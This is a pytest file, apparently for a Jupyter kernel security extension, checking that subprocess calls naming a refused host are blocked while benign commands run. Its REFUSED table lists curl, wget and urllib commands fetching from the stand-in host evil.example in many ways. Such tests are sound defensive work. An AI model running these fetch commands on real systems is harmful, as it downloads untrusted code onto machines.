"""Commands that Python code starts: those that name a refused host do not start, all others do."""

from __future__ import annotations

import pytest

from jupyter_mlsec.kernel.seams import watch
from jupyter_mlsec.kernel.seams.processes import _ARGUMENTS

REFUSED = {
    "os.system": "os.system('curl http://evil.example/x > {started}')",
    "os.popen": "os.popen('curl http://evil.example/x > {started}').read()",
    "run": "subprocess.run(['wget', 'http://evil.example/x', '-O', '{started}'])",
    "run of bytes": "subprocess.run([b'wget', b'http://evil.example/x'])",
    "run in a shell": "subprocess.run('touch {started}; curl -s evil.example', shell=True)",
    "check_output": "subprocess.check_output(['curl', '-s', 'evil.example'])",
    "a path as the program": "subprocess.run([pathlib.Path('/usr/bin/curl'), 'https://evil.example/x'])",
    "code for an interpreter": (
        "subprocess.run([sys.executable, '-c', 'import urllib.request as u; u.urlopen(\"http://evil.example/x\")'])"
    ),
    "posix_spawn": "os.posix_spawn('/usr/bin/curl', ['curl', 'http://evil.example/x'], dict(os.environ))",
    "exec": "os.execvp('curl', ['curl', 'http://evil.example/x'])",
    "asyncio": "asyncio.run(asyncio.create_subprocess_exec('curl', 'http://evil.example/x'))",
}
FINE = {
    "uname": "subprocess.run(['uname', '-p'], check=True)",
    "a shell": "subprocess.run('true && echo done.txt', shell=True, check=True)",
    "os.system": "assert os.system('true') == 0",
    "an allowed host": "subprocess.run(['echo', 'http://allowed.example/x'], check=True)",
    "loopback": "subprocess.run(['echo', 'tcp://127.0.0.1:8786', 'http://localhost:8000/'], check=True)",
    "a host in prose": "subprocess.run(['echo', '-m', 'see https://evil.example/issue for why'], check=True)",
    "a file with a dotted name": "subprocess.run(['ls', '-d', '/etc/ld.so.conf'], stdout=subprocess.DEVNULL)",
}
PRELUDE = "import asyncio, os, pathlib, subprocess, sys\n"


@pytest.mark.parametrize("way", REFUSED)
def test_a_command_that_names_a_refused_host_does_not_start(child, way, tmp_path):
    started = tmp_path / "started"
    call = REFUSED[way].replace("{started}", str(started))
    found = child(f"{PRELUDE}report(got=outcome(lambda: {call}), told=[a.host for a in network.refusals()])")
    assert found["got"]["error"] == "EndpointBlockedOSError" and found["got"]["os"]
    assert "evil.example" in found["got"]["text"] and "Ask for" in found["got"]["text"]
    assert ["evil.example", "shell command", "command"] in found["events"]
    assert "evil.example" in found["told"]
    assert not started.exists()


@pytest.mark.parametrize("way", FINE)
def test_every_other_command_runs(child, way):
    allow = ["http://allowed.example", "@loopback"]
    found = child(f"{PRELUDE}{FINE[way]}\nreport(told=[a.host for a in network.refusals()])", allow=allow)
    assert found["events"] == found["told"] == []


@pytest.mark.parametrize(("mode", "lines"), [("observe", 0), ("warn", 1)])
def test_under_other_modes_it_runs_and_is_recorded_once(child, mode, lines):
    found = child(f"{PRELUDE}subprocess.run(['echo', 'http://evil.example/x'], check=True)\nreport()", mode=mode)
    assert found["events"] == [["evil.example", "shell command", "command"]]
    assert found["stderr"].count("mlsec:") == lines


def test_with_the_mode_off_nothing_is_imported_for_a_command(child):
    found = child(f"{PRELUDE}subprocess.run(['echo', 'http://evil.example/x'], check=True)\nreport()", mode="off")
    assert found["events"] == [] and "jupyter_mlsec.kernel.seams.gate" not in found["modules"]


def test_the_watch_knows_every_command_event_that_is_judged():
    assert {*_ARGUMENTS, "os.system"} == watch.COMMAND_EVENTS
